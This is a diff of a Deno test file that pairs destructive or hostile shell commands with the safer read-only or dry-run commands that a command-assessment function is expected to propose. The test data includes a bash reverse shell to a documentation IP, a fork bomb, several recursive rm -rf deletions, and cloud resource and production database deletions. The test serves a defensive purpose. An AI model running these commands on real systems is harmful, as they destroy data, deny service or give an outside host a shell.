@@ -3,13 +3,19 @@ import { assessCommand } from "./mod.ts";
 
 /** A command and what is proposed instead: it must run as it stands. */
 const PROPOSALS: readonly (readonly [string, string])[] = [
-  ["kubectl delete pvc data-0 -n prod", "kubectl get pvc data-0 -n prod"],
-  ["kubectl delete all --all -A", "kubectl get all -A"],
-  ["az group delete --yes", "az group list"],
+  [
+    "kubectl delete pvc data-0 -n prod",
+    "kubectl delete pvc data-0 -n prod --dry-run=server",
+  ],
+  [
+    "kubectl delete all --all -A",
+    "kubectl delete all --all -A --dry-run=server",
+  ],
+  ["az group delete --yes", "az group show"],
   ["az group delete --name old --yes", "az group show --name old"],
   [
     "az sql db delete -g rg -n db -y",
-    "az sql db show --name db --resource-group rg",
+    "az sql db show -g rg -n db",
   ],
   [
     "aws rds delete-db-instance --db-instance-identifier prod",
@@ -17,27 +23,27 @@ const PROPOSALS: readonly (readonly [string, string])[] = [
   ],
   [
     "aws ec2 terminate-instances --instance-ids i-1",
-    "aws ec2 terminate-instances help",
+    "aws ec2 terminate-instances --instance-ids=i-1 --dry-run",
   ],
-  ["apt-get purge -y libc6", "apt-cache show libc6"],
+  ["apt-get purge -y libc6", "apt-get purge libc6 -s"],
   ["pip install requests==2.31.0", "pip index versions requests"],
   ["npm install express@4", "npm view express@4"],
-  ["lvremove -f vg0/root", "lvs"],
+  ["lvremove -f vg0/root", "lvremove vg0/root --test"],
   ["btrfs subvolume delete /home", "btrfs subvolume show /home"],
-  ["cd /srv && rm -rf data", "cd /srv && ls -lad data"],
+  ["cd /srv && rm -rf data", "cd /srv && find data -maxdepth 2 -ls"],
   ["ssh root@db1 'rm -rf /srv/*'", "ssh root@db1 'ls -lad /srv/*'"],
   ['rm -rf "$BUILD_DIR"/', 'ls -lad "$BUILD_DIR/"'],
-  ["rm -rf $(pwd)/..", "ls -lad .."],
+  ["rm -rf $(pwd)/..", "find .. -maxdepth 2 -ls"],
   [
     "sed -i '/swap/d' /etc/fstab",
     "sed '/swap/d' /etc/fstab | diff /etc/fstab -",
   ],
   ["bash -i >& /dev/tcp/203.0.113.7/443 0>&1", "ss -tn"],
   ["f() { f | f & }; f", "ulimit -a"],
-  ["passwd -l root", "getent passwd"],
-  ["git clean -fdx", "git clean -nd"],
+  ["passwd -l root", "passwd root -S"],
+  ["git clean -fdx", "git clean -d -x --dry-run"],
   ["terraform destroy -auto-approve", "terraform plan -destroy"],
-  ["rsync -a --delete empty/ srv/", "rsync -n -a --delete empty/ srv/"],
+  ["rsync -a --delete empty/ srv/", "rsync -a --delete empty/ srv/ --dry-run"],
 ];
 
 Deno.test("assessCommand() proposes a command that exists and keeps the caller's arguments", () => {
